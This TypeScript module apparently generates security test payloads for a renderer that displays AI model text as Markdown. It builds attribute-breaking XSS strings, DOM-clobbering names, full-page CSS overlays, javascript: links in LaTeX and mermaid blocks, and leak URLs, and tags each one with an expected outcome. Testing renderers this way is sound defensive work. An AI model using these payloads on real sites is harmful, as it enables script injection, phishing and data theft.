import { attacker, leak, script, type Template } from "./payload.js";

/** Ends of an attribute with a new one after it. */
const breaks: readonly ((id: string) => string)[] = [
  (id) => `" onmouseover="${script(id)}`,
  (id) => `" autofocus onfocus="${script(id)}`,
  (id) => `" onclick="${script(id)}" x="`,
  (id) => `" onclick=${script(id)} `,
  (id) => `"><img src=x onerror=${script(id)}>`,
  (id) => `"/><svg onload="${script(id)}">`,
  (id) => `"><script>${script(id)}</script>`,
  (id) => `" style="background:url(${leak(id)})" x="`,
  (id) => `" onload="${script(id)}" onerror="${script(id)}`,
];

/** Where the words of a model come into an attribute. */
const attributes: readonly ((value: string) => string)[] = [
  (value) => `[go](https://example.com '${value.replaceAll("'", "\\'")}')`,
  (value) => `[go](https://example.com (${value.replace(/[()]/g, "\\$&")}))`,
  (value) => `[go][r]\n\n[r]: https://example.com '${value.replaceAll("'", "\\'")}'`,
  (value) => `[go](<https://example.com/${value.replace(/[<>]/g, "\\$&")}>)`,
  (value) => `![${value.replace(/[<>]/g, "\\$&")}](https://example.com/a.png)`,
  (value) => `![x](/a.png '${value.replaceAll("'", "\\'")}')`,
  (value) => `![x](<https://example.com/a.png${value.replace(/[<>]/g, "\\$&")}>)`,
  (value) => `\`\`\`js${value.replaceAll(" ", "\u000C")}\ncode\n\`\`\``,
  (value) => `~~~ ${value}\ncode\n~~~`,
  (value) =>
    `x[^${value.replace(/\s/g, "\u000C").replace(/[[\]]/g, "")}]\n\n[^${value.replace(/\s/g, "\u000C").replace(/[[\]]/g, "")}]: y`,
  (value) => `> [!NOTE${value}]\n> x`,
  (value) => `# ${value.replace(/[<>]/g, "\\$&")}`,
  (value) => `[go](mailto:a@example.com?subject=${encodeURIComponent(value)})`,
  (value) => `[go](https://example.com/?q=${value.replace(/[\s<>]/g, (char) => `&#${char.charCodeAt(0)};`)})`,
];

/** Titles, alternative texts, languages, labels that try to end the attribute they stand in. */
export function* attributePayloads(): Generator<Template> {
  for (const [row, attribute] of attributes.entries()) {
    for (const write of breaks) {
      // Fences, alerts and addresses of mail keep such values in one word or do not take them.
      const canAct = ![9, 10, 11, 12].includes(row);
      yield { kind: "attribute", canAct, write: (id) => attribute(write(id)) };
      yield { kind: "attribute", canAct: false, write: (id) => attribute(write(id).replaceAll('"', "&amp;quot;")) };
    }
  }
}

/** Members of `window`, `document`, `Node`, `Object` and of frameworks, that a name can hide. */
export const clobberedNames: readonly string[] =
  `__proto__ constructor prototype toString valueOf hasOwnProperty then location document window self top parent opener frames
  name status event history navigator getElementById querySelector createElement body head forms images links anchors cookie domain
  attributes childNodes children firstChild parentNode ownerDocument nodeName innerHTML textContent submit action method elements length
  id className style dataset remove append removeChild addEventListener acted alert fetch require module process React headwater root
  app config settings __NEXT_DATA__ webpackChunk CSRF_TOKEN currentScript defaultView scripts activeElement`
    .trim()
    .split(/\s+/);

/** Names and ids that shadow what scripts of the page look for. */
export function* clobberingPayloads(): Generator<Template> {
  for (const name of clobberedNames) {
    const writes: readonly (readonly [boolean, (id: string) => string])[] = [
      [true, (id) => `# ${name}\n\n${id}`],
      // Labels of notes are compared in another case.
      [false, (id) => `x[^${name}]\n\n[^${name}]: ${id}`],
      [true, (id) => `<img name="${name}" id="${name}" alt="${id}">`],
      [true, (id) => `<form id="${name}"><input name="attributes"><input name="${name}" value="${id}"></form>`],
      [true, (id) => `<a id="${name}"></a><a id="${name}" name="${name}" href="https://example.com/${id}"></a>`],
      [true, (id) => `<iframe name="${name}" srcdoc="<a id='${name}' href='x:${id}'></a>"></iframe>`],
      [false, (id) => `[go](#${name} "${id}") [${name}](https://example.com/${id})`],
      [false, (id) => `[${name}]\n\n[${name}]: https://example.com/${id} '${name}'`],
      [false, (id) => `\`\`\`${name} ${name}=${id}\nx\n\`\`\``],
      [false, (id) => `> [!${name}]\n> ${id}`],
      [false, (id) => `| ${name} |\n|---|\n| ${id} |\n\n- [x] ${name} &${name}; :${name}:`],
    ];
    for (const [canAct, write] of writes) yield { kind: "clobbering", canAct, write };
  }
}

const overlay = "position:fixed;inset:0;z-index:99999;background:#fff";

/** Styles, classes and what looks like the page's own. */
export function* stylePayloads(): Generator<Template> {
  const boxes: readonly ((id: string) => string)[] = [
    (id) => `<div style="${overlay}">${id}</div>`,
    (id) => `<div style='${overlay}'>\n\n# ${id}\n\n</div>`,
    (id) => `<p style="${overlay.replaceAll(":", "&#58;")}">${id}</p>`,
    (id) => `<a href="https://example.com/${id}" style="${overlay}">x</a>`,
    (id) => `<span style="${overlay};opacity:0">${id}</span>`,
    (id) => `<style>#sentinel{position:fixed}</style>${id}`,
    (id) => `<style>*{position:fixed!important}</style>${id}`,
    (id) => `<link rel="stylesheet" href="data:text/css,*{position:fixed}">${id}`,
    (id) => `<div class="x" style="position:fixed">${id}</div>`,
    (id) => `<font style="position:fixed">${id}</font>`,
    (id) => `<svg style="position:fixed"><text>${id}</text></svg>`,
    (id) => `<table style="position:fixed"><tr><td>${id}</td></tr></table>`,
    (id) => `<dialog open style="position:fixed">${id}</dialog>`,
  ];
  for (const write of boxes) {
    yield { kind: "style", canAct: true, write };
    yield { kind: "style", canAct: true, write: (id) => `<div>\n${write(id)}\n</div>` };
    yield { kind: "style", canAct: true, write: (id) => `- ${write(id).replaceAll("\n", " ")}` };
    yield { kind: "style", canAct: true, write: (id) => `words ${write(id).replaceAll("\n", " ")}` };
  }
  const words: readonly ((id: string) => string)[] = [
    (id) => `# Title {#${id} .x style="${overlay}"}`,
    (id) => `[go](https://example.com/${id}){style="${overlay}" onclick="${script(id)}"}`,
    (id) => `![x](/a.png){width=9999 onerror="${script(id)}" src="${leak(id)}"}`,
    (id) => `::: {style="${overlay}"}\n${id}\n:::`,
    (id) => `\`\`\`js {style="${overlay}"}\n${id}\n\`\`\``,
    (id) => `[x]{style="${overlay}"} ==${id}== ++${id}++ ^${id}^ ~${id}~`,
    (id) => `$$\\href{javascript:${script(id)}}{x} \\includegraphics{${leak(id)}} \\htmlStyle{${overlay}}{x}$$`,
    (id) =>
      `\`\`\`mermaid\ngraph TD; A["<img src=x onerror=${script(id)}>"]; click A "javascript:${script(id)}"\n\`\`\``,
    (id) => `\`\`\`html\n<style>@import "${leak(id)}"</style>\n\`\`\``,
    (id) =>
      `---\nlayout: ${attacker}/${id}\n---\n\n<button class="hw-send hw-md-offer" onclick="${script(id)}">Send</button>`,
    (id) => `*[HTML]: <img src=x onerror=${script(id)}>\n\nHTML ${id}`,
    (id) => `[[${script(id)}]] :${id}: @${id} #${id} <<${id}>>`,
  ];
  for (const write of words) yield { kind: "style", canAct: false, write };
}
